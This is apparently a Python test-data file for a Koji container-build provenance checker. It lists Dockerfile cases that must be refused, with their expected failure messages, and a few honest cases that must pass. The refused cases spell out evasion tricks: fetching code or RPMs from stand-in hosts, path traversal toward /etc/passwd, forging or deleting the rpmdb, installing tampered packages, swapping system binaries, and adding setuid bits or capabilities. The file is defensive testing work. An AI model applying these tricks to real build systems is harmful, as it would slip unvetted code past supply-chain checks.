"""The corpus as data: repositories that must be refused, each with its exact reason, and honest ones that must pass.

A case is the instructions after FROM and LABEL, the files beside the Dockerfile, and words its failure must hold;
`{plain}` and `{forged}` are images that conftest.py pushes past Koji.
"""

import base64
import hashlib
from dataclasses import dataclass, field

BASE = "registry.example.com/f40/base:40"
# Machine code nobody could review: the first bytes of an ELF file and some noise, never run.
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + hashlib.sha256(b"tool").digest() * 40
ELF_BASE64 = base64.b64encode(ELF).decode()
NOTKOJI = "notkoji/notkoji-*.rpm"
TAMPERED = "tampered/hello-*.rpm"
RPMDB = "/usr/lib/sysimage/rpm/rpmdb.sqlite"

UNEXPLAINED = "unexplained programs: "
ALTERED = "programs altered after an RPM brought them: "
RIGHTS = "with rights that no RPM gives: "
CONTRADICTION = "where rpmdb and files contradict each other: "
NOT_KOJI = "the image holds what this Koji did not build"
OUTSIDE = "(rule host-not-allowed)"


@dataclass(frozen=True)
class Case:
    """One dist-git repository. `files` are texts, bytes, or patterns of RPMs below the scene's foreign repositories."""

    name: str
    instructions: tuple[str, ...]
    words: tuple[str, ...] = ()
    files: dict[str, str | bytes] = field(default_factory=dict)
    foreign_rpms: dict[str, str] = field(default_factory=dict)
    base: str = BASE
    before: tuple[str, ...] = ()

    def dockerfile(self) -> str:
        """Earlier stages, FROM, the labels, the instructions."""
        labels = f'LABEL com.redhat.component="webserver" name="f40/{self.name}" version="{self.name}"'
        return "\n".join([*self.before, f"FROM {self.base}", labels, *self.instructions]) + "\n"


def python(code: str) -> str:
    """A RUN of one line of Python."""
    assert "'" not in code
    return f"RUN python3 -c '{code}'"


def decoded(path: str) -> str:
    """A shell command that writes the machine code to a path."""
    return f"echo {ELF_BASE64} | base64 -d > {path}"


AT_THE_GATE = [
    Case("offered_but_foreign", ("RUN dnf -y install notkoji",), ("notkoji", "(rule unknown-to-koji)")),
    Case("same_name_other_payload", ("RUN dnf -y --repo=tampered install hello",), ("hello", "(rule digest-differs)")),
    Case(
        "repofrompath",
        ("RUN dnf -y --repofrompath=x,http://mirror.example.com/x --repo=x install notkoji",),
        ("http://mirror.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "own_repo_file",
        (
            r"RUN printf '[x]\nname=x\nbaseurl=http://mirror.example.com/x\ngpgcheck=0\n' > /etc/yum.repos.d/x.repo"
            " && dnf -y --repo=x install notkoji",
        ),
        ("http://mirror.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "repo_files_tampered_with",
        (
            "RUN sed -i 's|^baseurl.*|baseurl=http://mirror.example.com/y|' /etc/yum.repos.d/*.repo"
            " && dnf -y --refresh install hello",
        ),
        ("http://mirror.example.com/y/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "repo_moved_by_setopt",
        ("RUN dnf -y --refresh --setopt='*.baseurl=http://mirror.example.com/z' install hello",),
        ("http://mirror.example.com/z/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "reposdir_in_dnf_conf",
        (
            r"RUN mkdir /tmp/r && printf '[x]\nname=x\nbaseurl=http://mirror.example.com/w\ngpgcheck=0\n'"
            " > /tmp/r/x.repo && echo 'reposdir=/tmp/r' >> /etc/dnf/dnf.conf && dnf -y --repo=x install notkoji",
        ),
        ("http://mirror.example.com/w/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "rpm_by_url",
        ("RUN dnf -y install http://mirror.example.com/evil-1-1.noarch.rpm || true",),
        ("http://mirror.example.com/evil-1-1.noarch.rpm", OUTSIDE),
    ),
    Case(
        "http_out_and_no_word_of_it",
        (python('import urllib.request as r; r.urlopen("http://example.com/tool")') + " || true",),
        ("http://example.com/tool", OUTSIDE),
    ),
    Case(
        "https_out",
        (python('import urllib.request as r; r.urlopen("https://example.com/tool")') + " || true",),
        ("example.com:443", OUTSIDE),
    ),
    Case(
        "proxy_variables_unset",
        (
            "RUN unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; "
            + python('import urllib.request as r; r.urlopen("http://192.0.2.1/tool")').removeprefix("RUN "),
        ),
        ("exit code 1", "[Errno 101] Network is unreachable"),
    ),
    Case(
        "raw_socket_out",
        (python('import socket; socket.create_connection(("192.0.2.1", 80), 5)'),),
        ("exit code 1", "[Errno 101] Network is unreachable"),
    ),
    Case(
        "dns_out",
        (python('import socket; socket.getaddrinfo("example.com", 80)'),),
        ("exit code 1", "Temporary failure in name resolution"),
    ),
    Case(
        "path_out_of_the_repository",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("GET", "/repo/f40-build/../../../etc/passwd"); print(h.getresponse().status)'
            ),
        ),
        ("etc/passwd", "(rule path-escapes)"),
    ),
    Case(
        "upload_to_the_gate",
        (
            python(
                'import http.client as c; h = c.HTTPConnection("127.0.0.1", 3128);'
                ' h.request("PUT", "/repo/f40-build/x.rpm", "x"); print(h.getresponse().status)'
            ),
        ),
        ("x.rpm", "(rule method-not-allowed)"),
    ),
]

IN_THE_PROOF = [
    Case(
        "copied_rpm_installed",
        ("COPY foreign.rpm /tmp/", "RUN rpm -i --nodeps /tmp/foreign.rpm && rm /tmp/foreign.rpm"),
        (NOT_KOJI, "notkoji-1.0-1", "(unknown-to-koji)"),
        foreign_rpms={"foreign.rpm": NOTKOJI},
    ),
    Case(
        "copied_rpm_with_a_known_name",
        ("COPY foreign.rpm /tmp/", "RUN rpm -i --nodeps /tmp/foreign.rpm"),
        (NOT_KOJI, "hello-2.10-3", "(digest-differs)"),
        foreign_rpms={"foreign.rpm": TAMPERED},
    ),
    Case(
        "foreign_rpm_by_justdb",
        ("COPY foreign.rpm /tmp/", "RUN rpm -i --justdb --nodeps /tmp/foreign.rpm"),
        (NOT_KOJI, "notkoji-1.0-1", "(unknown-to-koji)"),
        foreign_rpms={"foreign.rpm": NOTKOJI},
    ),
    Case(
        "rpm_built_in_place",
        (
            r"RUN printf 'Name: mine\nVersion: 1\nRelease: 1\nSummary: s\nLicense: l\nBuildArch: noarch\n"
            r"%%description\nd\n%%files\n' > /tmp/mine.spec && rpmbuild -bb /tmp/mine.spec && rpm -i --nodeps"
            " $(find / -xdev -name 'mine-1-1.noarch.rpm')",
        ),
        (NOT_KOJI, "mine-1-1.noarch", "(unknown-to-koji)"),
    ),
    Case(
        "package_that_calls_itself_a_key",
        (
            r"RUN printf 'Name: gpg-pubkey\nVersion: 1\nRelease: 1\nSummary: s\nLicense: l\nBuildArch: noarch\n"
            r"%%description\nd\n%%files\n' > /tmp/k.spec && rpmbuild -bb /tmp/k.spec && rpm -i --nodeps --justdb"
            " $(find / -xdev -name 'gpg-pubkey-1-1.noarch.rpm')",
        ),
        (NOT_KOJI, "gpg-pubkey-1-1", "(unknown-to-koji)"),
    ),
    Case(
        "rpmdb_header_edited",
        (
            python(
                f'import sqlite3; d = sqlite3.connect("{RPMDB}"); '
                'r = [(n, b) for n, b in d.execute("select hnum, blob from Packages") if b"\\0sed\\0" in b]; '
                'd.execute("update Packages set blob = ? where hnum = ?",'
                ' (r[0][1].replace(b"\\0sed\\0", b"\\0sad\\0"), r[0][0]));'
                " d.commit()"
            ),
        ),
        (NOT_KOJI, "(broken-rpm)"),
    ),
    Case("rpmdb_deleted", ("RUN rm -r /usr/lib/sysimage/rpm",), (NOT_KOJI, "(no-rpmdb)")),
    Case("rpmdb_moved", ("RUN mv /usr/lib/sysimage/rpm /opt/rpm",), (NOT_KOJI, "(no-rpmdb)")),
    Case(
        "rpmdb_overwritten",
        (f"RUN echo 'this is no database' > {RPMDB}",),
        (NOT_KOJI, "(unreadable-rpmdb)"),
    ),
    Case(
        "second_rpmdb",
        (
            f"RUN mkdir -p /usr/share/rpm && cp {RPMDB} /usr/share/rpm/"
            " && sqlite3 /usr/share/rpm/rpmdb.sqlite 'delete from Packages where hnum = 1'",
        ),
        (NOT_KOJI, "(unreadable-rpmdb)", "several rpmdbs"),
    ),
]

IN_THE_ACCOUNT = [
    Case(
        "own_rpm_by_justdb",
        (
            "RUN dnf -y install --downloadonly --downloaddir=/tmp hello && rpm -i --justdb --nodeps /tmp/hello*.rpm"
            " && rm /tmp/hello*.rpm",
        ),
        (CONTRADICTION, "hello-2.10-3", "is in the rpmdb, but not installed", "/usr/bin/hello"),
    ),
    Case(
        "package_taken_out_of_the_rpmdb",
        ("RUN rpm -e --justdb --nodeps sed",),
        (CONTRADICTION, "sed-4", "was taken out of the rpmdb", "still there"),
    ),
    Case(
        "rpmdb_row_deleted",
        (
            f"RUN sqlite3 {RPMDB} 'pragma foreign_keys=off; delete from Packages where hnum in"
            ' (select hnum from Name where key = "sed")\'',
        ),
        (CONTRADICTION, "sed-4", "was taken out of the rpmdb"),
    ),
    Case(
        "rpmdb_begun_anew",
        ("RUN rm -r /usr/lib/sysimage/rpm && rpm --initdb",),
        (CONTRADICTION, "was taken out of the rpmdb", "more"),
    ),
    Case(
        "foreign_rpm_unpacked",
        (
            "COPY foreign.rpm /tmp/",
            "RUN cd / && rpm2archive /tmp/foreign.rpm && tar xzf /tmp/foreign.rpm.tgz && rm /tmp/foreign.rpm*",
        ),
        (UNEXPLAINED, "/usr/bin/hello (RUN cd / && rpm2archive"),
        foreign_rpms={"foreign.rpm": TAMPERED},
    ),
    Case(
        "foreign_rpm_unpacked_over_koji_s",
        (
            "COPY foreign.rpm /tmp/",
            "RUN dnf -y install hello && cd / && rpm2archive /tmp/foreign.rpm && tar xzf /tmp/foreign.rpm.tgz"
            " && rm /tmp/foreign.rpm*",
        ),
        (ALTERED, "/usr/bin/hello (hello-2.10-3"),
        foreign_rpms={"foreign.rpm": TAMPERED},
    ),
    Case(
        "binary_from_base64",
        (f"RUN {decoded('/usr/local/bin/tool')} && chmod 755 /usr/local/bin/tool",),
        (UNEXPLAINED, "/usr/local/bin/tool (RUN echo"),
    ),
    Case("binary_without_the_bit", (f"RUN {decoded('/srv/picture.png')}",), (UNEXPLAINED, "/srv/picture.png")),
    Case(
        "binary_in_a_cache",
        (f"RUN mkdir -p /var/cache/dnf && {decoded('/var/cache/dnf/x.solv')}",),
        (UNEXPLAINED, "/var/cache/dnf/x.solv"),
    ),
    Case(
        "shared_object_by_name",
        ("RUN mkdir /opt/lib && echo text > /opt/lib/libpreload.so.1",),
        (UNEXPLAINED, "/opt/lib/libpreload.so.1"),
    ),
    Case(
        "script_from_a_heredoc",
        (
            "RUN <<END\ncat > /usr/local/bin/start <<EOF\n#!/bin/sh\nexec true\nEOF\n"
            "chmod 755 /usr/local/bin/start\nEND",
        ),
        (UNEXPLAINED, "/usr/local/bin/start"),
    ),
    Case(
        "compiled_in_place",
        (python('import os; f = open("/opt/a.out", "wb"); f.write(bytes([127, 69, 76, 70]) + os.urandom(999))'),),
        (UNEXPLAINED, "/opt/a.out"),
    ),
    Case(
        "file_replaced_after_its_installation",
        ("RUN dnf -y install hello && dnf clean all && cp /usr/bin/true /usr/bin/hello",),
        (ALTERED, "/usr/bin/hello (hello-2.10-3"),
    ),
    Case(
        "file_replaced_in_a_later_layer",
        ("RUN dnf -y install hello && dnf clean all", f"RUN {decoded('/usr/bin/hello')}"),
        (ALTERED, "/usr/bin/hello (hello-2.10-3"),
    ),
    Case(
        "file_replaced_by_copy",
        ("COPY --chmod=755 sed /usr/bin/sed",),
        (ALTERED, "/usr/bin/sed (sed-4"),
        files={"sed": "#!/bin/sh\nexec true\n"},
    ),
    Case(
        "file_replaced_through_a_hard_link",
        ("RUN ln /usr/bin/sed /tmp/innocent && echo more >> /tmp/innocent && rm /tmp/innocent",),
        (ALTERED, "/usr/bin/sed (sed-4"),
    ),
    Case(
        "file_replaced_through_a_linked_directory",
        ("RUN ln -s /bin /srv/tools && rm /srv/tools/sed && cp /usr/bin/true /srv/tools/sed",),
        (ALTERED, "/usr/bin/sed (sed-4"),
    ),
    Case(
        "file_replaced_by_a_link",
        ("RUN rm /usr/bin/sed && ln -s true /usr/bin/sed",),
        (ALTERED, "/usr/bin/sed (sed-4", "other type"),
    ),
    Case(
        "directory_moved_behind_a_link",
        (
            "RUN cp -a /usr/lib/python3.11 /opt/p && rm -r /usr/lib/python3.11 && ln -s /opt/p /usr/lib/python3.11"
            " && echo 'import os' > /opt/p/pdb.py",
        ),
        (ALTERED, "/opt/p/pdb.py"),
    ),
    Case("setuid_added", ("RUN chmod u+s /usr/bin/python3.11",), (RIGHTS, "/usr/bin/python3.11 (setuid)")),
    Case(
        "setuid_copy",
        ("RUN cp /usr/bin/env /usr/local/bin/env && chmod 6755 /usr/local/bin/env",),
        (RIGHTS, "/usr/local/bin/env (setuid, setgid)"),
    ),
    Case(
        "capabilities_added",
        (
            python(
                'import os, struct; os.setxattr("/usr/bin/python3.11", "security.capability",'
                ' struct.pack("<5I", 0x02000001, 0x80, 0, 0, 0))'
            ),
        ),
        (RIGHTS, "/usr/bin/python3.11 (capabilities cap_setuid)"),
    ),
    Case(
        "binary_through_another_stage",
        ("COPY --from=make /opt/tool /usr/bin/tool",),
        (UNEXPLAINED, "/usr/bin/tool (COPY --from=make"),
        before=(f"FROM {BASE} AS make", f"RUN {decoded('/opt/tool')}"),
    ),
    Case(
        "foreign_rpm_through_another_stage",
        ("COPY --from=make /usr/bin/hello /usr/bin/hallo",),
        (UNEXPLAINED, "/usr/bin/hallo"),
        before=(f"FROM {BASE} AS make", "COPY foreign.rpm /", "RUN rpm -i --nodeps /foreign.rpm"),
        foreign_rpms={"foreign.rpm": TAMPERED},
    ),
]

# The images are pushed past Koji by conftest.py.
FROM_OUTSIDE = [
    Case("foreign_parent", ("RUN true",), ("foreign/plain", "does not say which Koji build it is"), base="{plain}"),
    Case("parent_with_forged_labels", ("RUN true",), ("foreign/forged", "has other digests"), base="{forged}"),
    Case(
        "copy_from_a_foreign_image",
        ("COPY --from={plain} /etc/os-release /srv/x",),
        ("foreign/plain", "does not say which Koji build it is"),
    ),
    Case("add_by_url", ("ADD http://example.com/tool /usr/bin/tool",), ("http://example.com/tool",)),
]

REFUSED = AT_THE_GATE + IN_THE_PROOF + IN_THE_ACCOUNT + FROM_OUTSIDE

HONEST = [
    # The repositories' own sections outweigh it; put back, it is as the RPM brought it.
    Case(
        "dnf_conf_edited_in_vain",
        (
            "RUN cp -p /etc/dnf/dnf.conf /tmp/kept && echo 'proxy=http://192.0.2.1:3128' >> /etc/dnf/dnf.conf"
            " && dnf -y --refresh install hello && dnf clean all && mv /tmp/kept /etc/dnf/dnf.conf",
        ),
    ),
    Case("honest_packages", ("RUN dnf -y install hello jq && dnf clean all", "RUN dnf -y remove jq")),
    Case(
        "honest_files",
        (
            "COPY --chmod=755 start /usr/local/bin/start",
            "COPY etc/ /etc/demo/",
            "RUN echo '127.0.0.1 me' >> /etc/services && ln -s start /usr/local/bin/run && mkdir -p /srv/data"
            " && cp /usr/bin/env /srv/data/env && : > /srv/data/empty && ldconfig",
            "COPY <<END /etc/demo/inline.conf\nkey = value\nEND",
        ),
        files={"start": "#!/bin/sh\nexec sleep 1\n", "etc/demo.conf": "a = 1\n"},
    ),
    Case(
        "honest_stages",
        ("COPY --from=page /page/ /srv/www/", "RUN rm -rf /usr/share/doc"),
        before=(
            f"FROM {BASE} AS page",
            "RUN dnf -y install jq && mkdir /page && rpm -qa | jq -R . > /page/list.json",
        ),
    ),
]
